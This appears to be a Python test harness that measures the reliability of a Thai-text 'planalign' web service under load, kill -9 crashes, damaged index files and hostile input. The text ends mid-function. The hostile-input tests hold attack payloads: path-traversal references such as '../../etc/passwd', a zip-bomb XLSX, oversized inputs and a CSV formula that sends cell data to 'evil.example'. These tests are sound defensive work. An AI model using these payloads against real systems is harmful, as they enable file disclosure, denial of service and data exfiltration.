"""``make reliability``: the service under load, kill -9, damaged index files and hostile input (issue 15).

Not part of ``make test``: about 12 minutes on 2 cores (the first run also embeds the Traffy words
with e5 once, kept in ``.reliability-data/``). Results: ``eval/results/reliability.md`` (and ``.json``).
Needs ``../shared/data/traffy/traffy_2023-01.csv.gz``.

Every scenario runs the real ``planalign serve`` in its own process on loopback, on a fresh copy of a
prepared data directory: the embedded sample projects plus the 13,584 Traffy reports of January 2023
(the index encoder is ``static``, the default). Sections:

1. load: 20 closed-loop clients (think time 0-1 s) mixing align, search and duplicate checks, one
   classification job, an upsert batch every 10 s and a delete every 30 s, for 3 minutes (drafts
   encoder ``static``), then 60 s with the default drafts encoder ``e5``; 5xx count, connection
   resets, p50/p95/p99 per endpoint, server RSS growth;
2. kill -9: a CLI ingest and the server killed at several points (after the store's commit, mid
   indexing, mid generation write, mid delta write, mid request), then a restart measured until
   store and index agree (checked offline by content hash), with a probe client measuring every
   request meanwhile. A CLI ingest embeds its new texts (words, for ``static``) into the data
   directory's cache before its store commit, so K2 (cold cache, killed right after the commit)
   restarts like a warm one. The service does not embed ahead (a write request must not wait
   minutes for e5): a server killed after committing an upload of thousands of never-seen words
   re-embeds them in the background after the restart (about 220 words a second per side on 2 cores),
   searchable meanwhile with the rows already indexed;
3. damaged index: truncated or missing files of the newest generation, a garbage CURRENT, a
   truncated delta: health, searches meanwhile, time to repair;
4. hostile input: the probe's list, each with its expected and measured answer.
"""
from __future__ import annotations

import argparse
import contextlib
import csv
import gzip
import http.client
import io
import json
import os
import random
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.parse
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
TRAFFY = ROOT.parent / "shared" / "data" / "traffy" / "traffy_2023-01.csv.gz"
WORK = ROOT / ".reliability-data"
RESULTS = ROOT / "eval" / "results"
ACCEPT_P99_S = 3.0
ACCEPT_RSS_MB = 200.0
ACCEPT_AGREE_S = 120.0
ACCEPT_BLOCK_S = 2.0
QUERIES = ["ขุดลอกคลอง", "น้ำท่วมขัง", "ทางเท้าชำรุด", "ไฟฟ้าส่องสว่างดับ", "ขยะไม่มีคนเก็บ", "ท่อระบายน้ำอุดตัน", "ต้นไม้ล้มขวางถนน",
           "ถนนเป็นหลุมเป็นบ่อ", "เสียงดังรบกวนตอนกลางคืน", "จอดรถบนทางเท้า", "ป้องกันยาเสพติด", "ผู้สูงอายุ", "สวนสาธารณะ",
           "น้ำประปาไม่ไหล", "สายไฟห้อยระโยงระยาง", "หาบเร่แผงลอย", "กลิ่นเหม็นจากโรงงาน", "สุนัขจรจัด", "ฝุ่น PM2.5", "ทางม้าลาย"]
RESET_ERRORS = (ConnectionResetError, BrokenPipeError, http.client.RemoteDisconnected, ConnectionAbortedError)


def log(message: str) -> None:
    print(f"[{time.strftime('%H:%M:%S')}] {message}", flush=True)


# ------------------------------------------------------------------------------------------- data
def traffy_rows() -> list[dict[str, str]]:
    with gzip.open(TRAFFY, "rt", encoding="utf-8") as handle:
        return [r for r in csv.DictReader(handle) if r.get("description", "").strip()]


def cli(*args: str, data_dir: Path, env: dict[str, str] | None = None, check: bool = True) -> subprocess.CompletedProcess:
    result = subprocess.run([sys.executable, "-m", "planalign.service.cli", *args, "--data-dir", str(data_dir)],
                            capture_output=True, text=True, env=dict(os.environ, **(env or {})))
    if check and result.returncode != 0:
        raise RuntimeError(f"planalign {' '.join(args)} failed: {result.stderr[-2000:]}")
    return result


def prepare() -> dict[str, Path]:
    """Data directories reused across runs: sample only; sample + Traffy (with a delta and a PREVIOUS)."""
    sample, full = WORK / "base-sample", WORK / "base-full"
    if not (sample / "index" / "CURRENT").is_file():
        shutil.rmtree(sample, ignore_errors=True)
        log("preparing the sample-only data directory")
        cli("ingest", "--sample", data_dir=sample)
    if not (full / "index" / "CURRENT").is_file():
        shutil.rmtree(full, ignore_errors=True)
        shutil.copytree(sample, full)
        log("preparing sample + 13,584 Traffy reports (the first run embeds every new word with e5: minutes)")
        started = time.monotonic()
        cli("ingest", str(TRAFFY), "--map", "description=name", "--source", "traffy", data_dir=full)
        extra = WORK / "delta.jsonl"
        extra.write_text("".join(json.dumps({"id": f"DELTA-{i}", "name": f"โครงการลอกท่อระบายน้ำซอย {i}"}, ensure_ascii=False) + "\n"
                                 for i in range(5)), encoding="utf-8")
        cli("ingest", str(extra), data_dir=full)  # one delta on top of the generation
        log(f"prepared in {time.monotonic() - started:.0f} s")
    for base in (sample, full):
        marker = base / ".warmed"
        if not marker.is_file():  # a service started once: catalog and query words in the cache, as on any machine in use
            for encoder in ("static", "e5"):
                log(f"warming {base.name} with drafts encoder {encoder}")
                server = Server(base, encoder, f"warm-{base.name}-{encoder}")
                server.wait_listening()
                server.wait_ready(timeout=1800)
                client = server.client()
                for query in QUERIES:
                    client.call("GET", "/v1/search?" + urllib.parse.urlencode({"q": query}))
                server.stop()
            marker.write_text("ok", encoding="utf-8")
    return {"sample": sample, "full": full}


def fresh_copy(base: Path, name: str, cache_from: Path | None = None) -> Path:
    target = WORK / "runs" / name
    shutil.rmtree(target, ignore_errors=True)
    shutil.copytree(base, target)
    if cache_from is not None:
        shutil.rmtree(target / "cache", ignore_errors=True)
        shutil.copytree(cache_from / "cache", target / "cache")
    return target


def agreement(data_dir: Path) -> dict[str, Any]:
    """Store and index compared offline, by content hash, project by project."""
    from planalign.index.project_index import load_latest
    from planalign.index.store import ProjectStore, default_url

    store = ProjectStore(default_url(data_dir))
    try:
        wanted = store.content_hashes()
    finally:
        store.close()
    loaded = load_latest(data_dir)
    have = {pid: loaded.index.hashes[p] for pid, p in loaded.index.position.items()} if loaded.index else {}
    missing = sum(1 for pid, digest in wanted.items() if have.get(pid) != digest)
    extra = sum(1 for pid in have if pid not in wanted)
    return {"agree": missing == 0 and extra == 0 and loaded.exact, "store": len(wanted), "index": len(have),
            "missing_or_stale": missing, "extra": extra, "exact": loaded.exact}


# ----------------------------------------------------------------------------------------- server
def slug(name: str) -> str:
    return re.sub(r"[^A-Za-z0-9]+", "-", name).strip("-")[:48]


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


class Server:
    """``planalign serve`` in its own process."""

    def __init__(self, data_dir: Path, encoder: str, name: str, env: dict[str, str] | None = None, extra: tuple[str, ...] = ()) -> None:
        self.port = free_port()
        self.log_path = WORK / "logs" / f"{name}.log"
        self.log_path.parent.mkdir(parents=True, exist_ok=True)
        self._log = self.log_path.open("ab")
        self.started = time.monotonic()
        self.process = subprocess.Popen(
            [sys.executable, "-m", "planalign.service.cli", "serve", "--host", "127.0.0.1", "--port", str(self.port),
             "--data-dir", str(data_dir), "--encoder", encoder, *extra],
            stdout=self._log, stderr=subprocess.STDOUT, env=dict(os.environ, **(env or {})))

    def client(self, timeout: float = 120) -> Client:
        return Client(self.port, timeout)

    def wait_listening(self, timeout: float = 120) -> float:
        deadline = time.monotonic() + timeout
        client = self.client(5)
        while time.monotonic() < deadline:
            if self.process.poll() is not None:
                raise RuntimeError(f"server exited: see {self.log_path}")
            if client.call("GET", "/healthz").status == 200:
                return time.monotonic() - self.started
            time.sleep(0.1)
        raise RuntimeError("server did not start listening")

    def readiness(self) -> dict[str, Any]:
        result = self.client(10).call("GET", "/readyz")
        try:
            return {"http": result.status, **json.loads(result.body or b"{}")}
        except ValueError:
            return {"http": result.status}

    def wait_ready(self, timeout: float = 600, seen: list | None = None) -> float:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            state = self.readiness()
            if seen is not None and state.get("detail") and (not seen or seen[-1] != state.get("detail")):
                seen.append(state.get("detail"))
            if state.get("http") == 200:
                return time.monotonic() - self.started
            if self.process.poll() is not None:
                raise RuntimeError(f"server exited: see {self.log_path}")
            time.sleep(0.25)
        raise RuntimeError(f"server not ready after {timeout} s: {self.readiness()}")

    def rss_mb(self) -> float:
        try:
            for line in Path(f"/proc/{self.process.pid}/status").read_text().splitlines():
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024
        except OSError:
            pass
        return float("nan")

    def kill9(self) -> None:
        self.process.send_signal(signal.SIGKILL)
        self.process.wait()
        self._log.close()

    def stop(self) -> None:
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
            try:
                self.process.wait(30)
            except subprocess.TimeoutExpired:
                self.kill9()
        self._log.close()

    def log_errors(self) -> int:
        text = self.log_path.read_text(encoding="utf-8", errors="replace")
        return text.count("Traceback") + text.count("internal error on ")


@dataclass
class Result:
    status: int  # 0: no answer
    seconds: float
    body: bytes = b""
    error: str = ""  # reset, refused, timeout, closed (server closed the keep-alive connection)


class Client:
    """One keep-alive connection; a dropped connection is counted and reopened.

    Like browsers and HTTP libraries, a connection idle longer than the server's keep-alive timeout
    (uvicorn: 5 s) is not reused: the server may have closed it, and a request sent on it would be
    counted as a reset that no real client sees.
    """

    IDLE_S = 4.0

    def __init__(self, port: int, timeout: float) -> None:
        self.port = port
        self.timeout = timeout
        self.connection: http.client.HTTPConnection | None = None
        self.last_used = 0.0

    def call(self, method: str, path: str, json_body: Any = None, body: bytes | None = None,
             headers: dict[str, str] | None = None) -> Result:
        headers = dict(headers or {})
        if json_body is not None:
            body = json.dumps(json_body, ensure_ascii=False).encode()
            headers["Content-Type"] = "application/json"
        started = time.perf_counter()
        if self.connection is not None and time.monotonic() - self.last_used > self.IDLE_S:
            self._drop()
        try:
            if self.connection is None:
                self.connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=self.timeout)
            self.connection.request(method, path, body=body, headers=headers)
            response = self.connection.getresponse()
            data = response.read()
            self.last_used = time.monotonic()
            error = ""
            if response.will_close:
                error = "closed"
                self.connection.close()
                self.connection = None
            return Result(response.status, time.perf_counter() - started, data, error)
        except RESET_ERRORS:
            self._drop()
            return Result(0, time.perf_counter() - started, error="reset")
        except ConnectionRefusedError:
            self._drop()
            return Result(0, time.perf_counter() - started, error="refused")
        except TimeoutError:
            self._drop()
            return Result(0, time.perf_counter() - started, error="timeout")

    def _drop(self) -> None:
        if self.connection is not None:
            self.connection.close()
        self.connection = None


def multipart(fields: dict[str, str], filename: str, content: bytes) -> tuple[bytes, dict[str, str]]:
    boundary = uuid.uuid4().hex
    parts = []
    for name, value in fields.items():
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode())
    parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n'
                 f"Content-Type: application/octet-stream\r\n\r\n".encode() + content + b"\r\n")
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), {"Content-Type": f"multipart/form-data; boundary={boundary}"}


def percentile(values: list[float], q: float) -> float:
    if not values:
        return float("nan")
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, max(0, round(q / 100 * len(ordered) + 0.5) - 1))]


# --------------------------------------------------------------------------------------------- load
@dataclass
class Traffic:
    drafts: list[str]
    checks: list[str]
    rows: list[dict[str, str]]


def traffic(rows: list[dict[str, str]]) -> Traffic:
    from planalign.corpora.projects import sample_records

    drafts = [f"{r['name']}\n{r.get('objective', '')}".strip() for r in sample_records()]
    texts = [r["description"][:400] for r in rows]
    return Traffic(drafts + random.Random(1).sample(texts, 300), random.Random(2).sample(texts, 400), rows)


def load_test(base: Path, encoder: str, seconds: float, clients: int, job_rows: int, name: str) -> dict[str, Any]:
    data = fresh_copy(base, name)
    rows = traffy_rows()
    work = traffic(rows)
    server = Server(data, encoder, name)
    server.wait_listening()
    server.wait_ready()
    warm = server.client()
    for text in work.drafts[:3]:  # first requests build caches; the clients measure steady state
        warm.call("POST", "/v1/align", {"text": text})
        warm.call("GET", "/v1/search?" + urllib.parse.urlencode({"q": text[:30]}))
        warm.call("POST", "/v1/duplicates/check", {"text": text})
    rss_start = server.rss_mb()
    samples: list[tuple[float, float]] = []
    records: list[tuple[str, Result]] = []
    lock = threading.Lock()
    stop = threading.Event()
    started = time.monotonic()

    def record(endpoint: str, result: Result) -> None:
        with lock:
            records.append((endpoint, result))

    def user(number: int) -> None:
        rng = random.Random(number)
        client = server.client()
        while not stop.is_set():
            kind = rng.choice(("align", "search", "check"))
            if kind == "align":
                result = client.call("POST", "/v1/align", {"text": rng.choice(work.drafts)})
            elif kind == "search":
                params = {"q": rng.choice(QUERIES)}
                if rng.random() < 0.3:
                    params["group"] = rng.choice(["กรุงเทพเหนือ", "กรุงเทพใต้", "กรุงธนเหนือ", "กรุงธนใต้", "กรุงเทพกลาง", "กรุงเทพตะวันออก"])
                if rng.random() < 0.2:
                    params["page"] = str(rng.randint(2, 5))
                result = client.call("GET", "/v1/search?" + urllib.parse.urlencode(params))
            else:
                result = client.call("POST", "/v1/duplicates/check", {"text": rng.choice(work.checks)})
            record(kind, result)
            stop.wait(rng.uniform(0, 1.0))

    def writer() -> None:
        client = server.client()
        rng = random.Random(7)
        batch = 0
        while not stop.wait(10):
            batch += 1
            updates = [{"id": r["ticket_id"], "name": f"{r['description'][:300]} (แก้ไขครั้งที่ {batch})", "district": r["district"]}
                       for r in rng.sample(rows, 10)]
            new = [{"id": f"LOAD-{batch}-{i}", "name": rng.choice(work.checks)} for i in range(10)]
            record("upsert", client.call("POST", "/v1/projects", {"projects": updates + new}))
            if batch % 3 == 0:
                record("delete", client.call("DELETE", f"/v1/projects/LOAD-{batch - 1}-0"))

    def sampler() -> None:
        while not stop.wait(1.0):
            samples.append((time.monotonic() - started, server.rss_mb()))

    job_csv = io.StringIO()
    write_csv_rows = csv.writer(job_csv)
    write_csv_rows.writerow(["id", "text"])
    write_csv_rows.writerows([r["ticket_id"], r["description"][:500]] for r in rows[:job_rows])
    body, headers = multipart({"text_col": "text", "id_col": "id"}, "job.csv", job_csv.getvalue().encode())
    job = server.client().call("POST", "/v1/classify/jobs", body=body, headers=headers)
    record("job-submit", job)
    job_id = json.loads(job.body).get("id") if job.status == 202 else None
    threads = [threading.Thread(target=user, args=(n,), daemon=True) for n in range(clients)]
    threads += [threading.Thread(target=writer, daemon=True), threading.Thread(target=sampler, daemon=True)]
    for thread in threads:
        thread.start()
    time.sleep(seconds)
    stop.set()
    for thread in threads:
        thread.join(timeout=150)
    elapsed = time.monotonic() - started
    job_state = json.loads(server.client().call("GET", f"/v1/classify/jobs/{job_id}").body) if job_id else {}
    rss_end = server.rss_mb()
    clusters = server.client(600).call("GET", "/v1/duplicates")  # the cluster sweep over every project, once, after the run
    server_errors = server.log_errors()
    server.stop()
    endpoints: dict[str, Any] = {}
    for endpoint in ("align", "search", "check", "upsert", "delete", "job-submit"):
        results = [r for e, r in records if e == endpoint]
        if not results:
            continue
        ok = [r.seconds for r in results if r.status and r.status < 500]
        endpoints[endpoint] = {
            "requests": len(results), "5xx": sum(1 for r in results if r.status >= 500),
            "4xx": sum(1 for r in results if 400 <= r.status < 500),
            "resets": sum(1 for r in results if r.error == "reset"), "closed": sum(1 for r in results if r.error == "closed"),
            "timeouts": sum(1 for r in results if r.error == "timeout"),
            "p50": percentile(ok, 50), "p95": percentile(ok, 95), "p99": percentile(ok, 99), "max": max(ok) if ok else float("nan")}
    rss = [value for _, value in samples]
    return {"encoder": encoder, "seconds": round(elapsed, 1), "clients": clients, "endpoints": endpoints,
            "requests": len(records), "throughput": round(len(records) / elapsed, 1),
            "rss_start_mb": round(rss_start, 1), "rss_end_mb": round(rss_end, 1), "rss_max_mb": round(max(rss + [rss_end]), 1),
            "rss_growth_mb": round(rss_end - rss_start, 1), "rss_peak_growth_mb": round(max(rss + [rss_end]) - rss_start, 1),
            "job": {"rows": job_rows, "status": job_state.get("status"), "progress": job_state.get("progress")},
            "clusters_once": {"status": clusters.status, "seconds": round(clusters.seconds, 1)},
            "server_log_errors": server_errors, "agreement_after": agreement(data)}


# ------------------------------------------------------------------------------- kill -9 / restarts
class Probe:
    """A client asking search, duplicate check and align in turn while a server restarts or repairs."""

    def __init__(self, server: Server, drafts: list[str]) -> None:
        self.server = server
        self.drafts = drafts
        self.results: list[tuple[str, Result]] = []
        self.health: list[str] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def start(self) -> Probe:
        self._thread.start()
        return self

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(timeout=180)

    def _run(self) -> None:
        client = self.server.client(60)
        health = self.server.client(10)
        rng = random.Random(3)
        while not self._stop.is_set():
            for kind in ("search", "check", "align"):
                if kind == "search":
                    result = client.call("GET", "/v1/search?" + urllib.parse.urlencode({"q": rng.choice(QUERIES)}))
                elif kind == "check":
                    result = client.call("POST", "/v1/duplicates/check", {"text": rng.choice(self.drafts)})
                else:
                    result = client.call("POST", "/v1/align", {"text": rng.choice(self.drafts)})
                self.results.append((kind, result))
            answer = health.call("GET", "/healthz")
            try:
                status = json.loads(answer.body).get("status", "?")
            except ValueError:
                status = f"http {answer.status}"
            if not self.health or self.health[-1] != status:
                self.health.append(status)
            self._stop.wait(0.2)

    def summary(self) -> dict[str, Any]:
        answered = [r for _, r in self.results if r.status]
        return {"requests": len(self.results), "max_s": round(max((r.seconds for r in answered), default=0.0), 2),
                "over_2s": sum(1 for r in answered if r.seconds > ACCEPT_BLOCK_S),
                "statuses": dict(sorted({str(s): sum(1 for r in answered if r.status == s) for s in {r.status for r in answered}}.items())),
                "5xx_not_503": sum(1 for r in answered if r.status >= 500 and r.status != 503),
                "resets": sum(1 for _, r in self.results if r.error == "reset"), "health": self.health}


def restart(data: Path, name: str, drafts: list[str], encoder: str = "static") -> dict[str, Any]:
    """Start a server on ``data`` and measure until store and index agree."""
    server = Server(data, encoder, name)
    listening = server.wait_listening()
    probe = Probe(server, drafts).start()
    seen: list[str] = []
    try:
        ready = server.wait_ready(timeout=900, seen=seen)
        time.sleep(1.0)
    finally:
        probe.stop()
    agreed = agreement(data)
    errors = server.log_errors()
    server.stop()
    return {"listening_s": round(listening, 1), "agreement_s": round(ready, 1), "readiness_seen": seen[:6] + (["..."] if len(seen) > 6 else []),
            "probe": probe.summary(), "agreement": agreed, "server_log_errors": errors}


def wait_until(check: Callable[[], bool], timeout: float, every: float = 0.02) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if check():
            return True
        time.sleep(every)
    return False


def store_count(data: Path) -> int:
    import sqlite3

    try:
        with sqlite3.connect(f"file:{data / 'planalign.db'}?mode=ro", uri=True, timeout=1) as db:
            return int(db.execute("SELECT count(*) FROM projects").fetchone()[0])
    except sqlite3.Error:
        return -1


def kill_scenarios(bases: dict[str, Path], drafts: list[str], rows: list[dict[str, str]], only: list[str] | None = None) -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []
    traffy_total = len(rows)
    sample_count = store_count(bases["sample"])

    def ingest_then_kill(name: str, what: str, cache: Path, when: Callable[[Path, subprocess.Popen, float], bool]) -> None:
        if only and name.split()[0] not in only:
            return
        data = fresh_copy(bases["sample"], slug(name), cache_from=cache)
        process = subprocess.Popen([sys.executable, "-m", "planalign.service.cli", "ingest", str(TRAFFY), "--map", "description=name",
                                    "--source", "traffy", "--data-dir", str(data)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        started = time.monotonic()
        wait_until(lambda: when(data, process, time.monotonic() - started) or process.poll() is not None, 900)
        finished = process.poll() is not None
        if not finished:
            process.send_signal(signal.SIGKILL)
        process.wait()
        killed_at = time.monotonic() - started
        stored = store_count(data)
        log(f"{name}: killed at {killed_at:.1f} s, store {stored}; restarting")
        result = restart(data, slug(name) + "-restart", drafts)
        out.append({"scenario": name, "what": what, "killed_at_s": round(killed_at, 1), "finished_before_kill": finished,
                    "store_after_kill": stored, **result})

    committed = lambda data, process, elapsed: store_count(data) >= sample_count + traffy_total  # noqa: E731
    ingest_then_kill("K1 ingest killed right after the store commit (word cache warm)",
                     "the CLI's store transaction committed, nothing indexed yet; the words were embedded by an earlier run",
                     bases["full"], committed)
    ingest_then_kill("K2 ingest killed right after the store commit (cold word cache)",
                     "as K1, but no Traffy word was embedded before this ingest: the ingest embeds them (e5, into the "
                     "data directory's cache) before its store commit",
                     bases["sample"], committed)
    ingest_then_kill("K8 ingest killed 30 s after start (cold word cache)",
                     "no Traffy word embedded before: killed while the ingest embeds them ahead of its store commit",
                     bases["sample"], lambda data, process, elapsed: elapsed >= 30.0)
    def after(delay: float) -> Callable[[Path, subprocess.Popen, float], bool]:
        return lambda data, process, elapsed: elapsed >= delay

    for delay in (1.5, 6.0, 12.0):
        ingest_then_kill(f"K3 ingest killed {delay:.1f} s after start (word cache warm)",
                         "kill -9 at an arbitrary moment: reading, store transaction or indexing", bases["full"], after(delay))

    def server_then_kill(name: str, what: str, payload_rows: int, env: dict[str, str], when: Callable[[Server, Path], bool],
                         kill_mid_request: bool = False) -> None:
        if only and name.split()[0] not in only:
            return
        data = fresh_copy(bases["full"], slug(name))
        server = Server(data, "static", slug(name), env=env)
        server.wait_listening()
        server.wait_ready()
        projects = [{"id": f"KILL-{i}", "name": f"{r['description'][:300]} ({name[:2]})", "district": r["district"]}
                    for i, r in enumerate(rows[:payload_rows])]
        answer: list[Result] = []
        def send() -> None:
            answer.append(server.client(600).call("POST", "/v1/projects", {"projects": projects}))

        sender = threading.Thread(target=send, daemon=True)
        before = store_count(data)
        sender.start()
        started = time.monotonic()
        if kill_mid_request:
            time.sleep(0.05)
        hit = wait_until(lambda: when(server, data), 600, every=0.01)
        server.kill9()
        killed_at = time.monotonic() - started
        sender.join(5)
        stored = store_count(data)
        log(f"{name}: killed at {killed_at:.1f} s (condition met: {hit}), store {before} -> {stored}; restarting")
        result = restart(data, slug(name) + "-restart", drafts)
        out.append({"scenario": name, "what": what, "killed_at_s": round(killed_at, 1), "condition_met": hit,
                    "answer_before_kill": answer[0].status if answer else None, "store_before": before, "store_after_kill": stored, **result})

    def indexing(server: Server, data: Path) -> bool:
        state = server.readiness()
        return state.get("status") == "indexing" and (state.get("indexing") or {}).get("total", 0) > 0

    def partial_generation(server: Server, data: Path) -> bool:
        return any((p / "manifest.json").is_file() for p in (data / "index").glob(".gen-*.partial"))

    def partial_delta(server: Server, data: Path) -> bool:
        return any((data / "index").glob("gen-*/.delta-*.partial"))

    server_then_kill("K4 server killed while indexing an upsert of 2,500 projects",
                     "the request committed and was answered; the background indexer was embedding", 2500, {}, indexing)
    server_then_kill("K5 server killed mid generation write", "new generation written beside the old, CURRENT not switched yet",
                     2500, {"PLANALIGN_TEST_PAUSE_BEFORE_SWITCH": "60"}, partial_generation)
    server_then_kill("K6 server killed mid delta write", "delta file half-written, CURRENT not switched yet", 5,
                     {"PLANALIGN_TEST_PAUSE_BEFORE_SWITCH": "60"}, partial_delta)
    server_then_kill("K7 server killed mid request (upsert of 2,000 projects)", "kill -9 50 ms after the request was sent",
                     2000, {}, lambda server, data: True, kill_mid_request=True)
    return out


def damage_scenarios(base: Path, drafts: list[str]) -> list[dict[str, Any]]:
    from planalign.index.project_index import read_pointer

    out = []

    def newest(data: Path) -> Path:
        pointer = read_pointer(data / "index")
        assert pointer is not None
        return data / "index" / pointer[0]

    def truncate(path: Path) -> None:
        content = path.read_bytes()
        path.write_bytes(content[: len(content) // 3])

    cases: list[tuple[str, Callable[[Path], object]]] = [
        ("D1 newest generation: vectors.npy truncated", lambda d: truncate(newest(d) / "vectors.npy")),
        ("D2 newest generation: ids.json missing", lambda d: (newest(d) / "ids.json").unlink()),
        ("D3 newest generation: directory missing", lambda d: shutil.rmtree(newest(d))),
        ("D4 CURRENT overwritten with garbage", lambda d: (d / "index" / "CURRENT").write_bytes(os.urandom(64))),
        ("D5 newest delta truncated", lambda d: truncate(next(newest(d).glob("delta-*.npz")))),
        ("D6 tokens.jsonl of the newest generation truncated", lambda d: truncate(newest(d) / "tokens.jsonl")),
    ]
    for name, damage in cases:
        data = fresh_copy(base, name.split()[0])
        damage(data)
        log(f"{name}: starting on the damaged index")
        result = restart(data, name.split()[0] + "-restart", drafts)
        out.append({"scenario": name, **result})
    return out


# ------------------------------------------------------------------------------------ hostile input
def hostile(base: Path, rows: list[dict[str, str]]) -> list[dict[str, Any]]:
    from openpyxl import Workbook, load_workbook

    data = fresh_copy(base, "hostile")
    server = Server(data, "static", "hostile")
    server.wait_listening()
    server.wait_ready()
    client = server.client(300)
    findings: list[dict[str, Any]] = []
    secret = WORK / "runs" / "secret.csv"
    secret.write_text("username,password\nadmin,hunter2\n", encoding="utf-8")
    absent = WORK / "runs" / "secreX.csv"
    roots = (str(data), str(WORK), "/tmp/")

    def leaks(result: Result, echoed: str = "") -> bool:
        """A server path or file content in the answer (a reference the client sent, echoed back, is not a leak)."""
        text = result.body.decode("utf-8", errors="replace")
        if echoed:
            text = text.replace(echoed, "")
        return any(r in text for r in roots) or "hunter2" in text or "Traceback" in text

    def item(name: str, expected: str, result: Result, ok: bool, note: str = "", echoed: str = "") -> None:
        error = ""
        with contextlib.suppress(ValueError, AttributeError):
            error = str(json.loads(result.body).get("error", ""))[:160]
        leaked = leaks(result, echoed)
        findings.append({"input": name, "expected": expected, "status": result.status, "seconds": round(result.seconds, 2),
                         "message": error.replace(echoed, "<the path sent>") if echoed else error, "leak": leaked,
                         "pass": ok and not leaked and result.status < 500, "note": note})
        log(f"hostile: {name}: {result.status} in {result.seconds:.2f} s, {'pass' if findings[-1]['pass'] else 'FAIL'} {error[:80]} {note}")

    def upload(path: str, filename: str, content: bytes, fields: dict[str, str], headers: dict[str, str] | None = None) -> Result:
        body, head = multipart(fields, filename, content)
        return client.call("POST", path, body=body, headers={**head, **(headers or {})})

    # 1. catalogs are ids only; no existence oracle
    for field_name, call in [("align", lambda ref: client.call("POST", "/v1/align", {"text": "ลูกแมว", "catalog": ref})),
                             ("classify", lambda ref: client.call("POST", "/v1/classify", {"texts": ["ลูกแมว"], "catalog": ref})),
                             ("job form", lambda ref: upload("/v1/classify/jobs", "a.csv", "text\nขุด\n".encode(), {"text_col": "text", "catalog": ref}))]:
        there, missing = call(str(secret)), call(str(absent))
        same = (there.status, there.body.replace(str(secret).encode(), b"R")) == (missing.status, missing.body.replace(str(absent).encode(), b"R"))
        item(f"{field_name}: catalog = a server file path", "404/422, same answer whether the file exists", there,
             there.status in (404, 422) and same, f"existing {there.status} / missing {missing.status}", echoed=str(secret))
    for ref in ("../../etc/passwd", "/etc/passwd"):
        result = client.call("POST", "/v1/align", {"text": "ลูกแมว", "catalog": ref})
        item(f"align: catalog = {ref}", "404/422, nothing read", result, result.status in (404, 422))
    # 2. unbounded work
    result = client.call("POST", "/v1/align", {"text": "ก" * 1_000_000})
    item("align: 1,000,000 characters without spaces", "413 at once (was 46 s)", result, result.status == 413 and result.seconds < 2)
    result = client.call("POST", "/v1/duplicates/check", {"text": "ข" * 100_000})
    item("duplicate check: 100,000 characters", "413 or 422 at once", result, result.status in (413, 422) and result.seconds < 2)
    result = upload("/v1/projects/file", "long-name.csv", f"id,name\n1,{'ก' * 5_000_000}\n".encode(), {})
    item("project upload: a 5 MB one-line name", "413 at once (was 117 s)", result, result.status == 413 and result.seconds < 5)
    big = WORK / "runs" / "300k.xlsx"
    if not big.is_file():
        workbook = Workbook(write_only=True)
        sheet = workbook.create_sheet()
        sheet.append(["id", "text"])
        for i in range(300_000):
            sheet.append([i, "x"])
        workbook.save(big)
    rss_before = server.rss_mb()
    result = upload("/v1/classify/jobs", "300k.xlsx", big.read_bytes(), {"text_col": "text"})
    rss_after = server.rss_mb()
    item(f"job: a {big.stat().st_size / 1e6:.1f} MB XLSX with 300,000 rows", "413, bounded memory (was > 2 GB)", result,
         result.status == 413 and rss_after - rss_before < 200, f"server RSS {rss_before:.0f} -> {rss_after:.0f} MB")
    bomb = io.BytesIO()
    import zipfile

    wb = Workbook()
    wb.active.append(["text"])
    wb.active.append(["x"])
    wb.save(bomb)
    with zipfile.ZipFile(bomb, "a") as archive:
        archive.writestr("xl/padding.xml", b" " * 300_000_000, compress_type=zipfile.ZIP_DEFLATED)
    result = upload("/v1/classify/jobs", "bomb.xlsx", bomb.getvalue(), {"text_col": "text"})
    item(f"job: a zip-bomb XLSX ({len(bomb.getvalue()) / 1e6:.1f} MB, 300 MB inflated)", "413 before parsing", result, result.status == 413)
    many = "text\n" + "".join(f"ข้อความ {i}\n" for i in range(25_000))
    result = upload("/v1/classify/jobs", "rows.csv", many.encode(), {"text_col": "text"})
    item("job: 25,000 rows (limit 20,000)", "413 naming the limit", result, result.status == 413)
    # 3. file formats
    result = upload("/v1/projects/file", "unclosed.csv", b'id,name\n1,ok\n2,"never closed\n3,merged\n', {})
    item("project upload: CSV with an unclosed quote", "422 naming the user's file and line", result,
         result.status == 422 and b"unclosed.csv: line 3" in result.body)
    result = upload("/v1/projects/file", "junk.xlsx", os.urandom(4000), {})
    item("project upload: random bytes named .xlsx", "422 naming the user's file", result, result.status == 422 and b"junk.xlsx" in result.body)
    # 4. formulas
    formula = '=HYPERLINK("http://evil.example/?q="&A1,"คลิก")'
    content = f'id,text\n1,"{formula.replace(chr(34), chr(34) * 2)} ขุดลอกคลอง"\n2,@SUM(1+1) ลอกท่อ\n'.encode()
    job = upload("/v1/classify/jobs", "formula.csv", content, {"text_col": "text"})
    job_id = json.loads(job.body).get("id")
    wait_until(lambda: json.loads(client.call("GET", f"/v1/classify/jobs/{job_id}").body)["status"] in ("done", "failed"), 120, 0.2)
    xlsx = client.call("GET", f"/v1/classify/jobs/{job_id}/result?format=xlsx")
    csv_result = client.call("GET", f"/v1/classify/jobs/{job_id}/result?format=csv")
    cell = load_workbook(io.BytesIO(xlsx.body)).active["B2"]
    neutral = cell.data_type == "s" and bool(cell.quotePrefix) and "'=HYPERLINK" in csv_result.body.decode("utf-8-sig")
